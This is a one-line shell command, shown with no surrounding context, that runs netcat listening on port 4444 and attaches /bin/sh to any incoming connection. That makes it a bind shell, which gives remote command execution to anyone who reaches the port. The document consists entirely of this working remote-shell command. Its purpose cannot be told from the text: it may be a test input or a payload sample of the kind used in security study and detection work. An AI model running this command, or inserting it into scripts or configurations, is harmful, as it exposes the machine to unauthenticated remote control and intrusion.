sh -c "nc -lp 4444 -e /bin/sh"
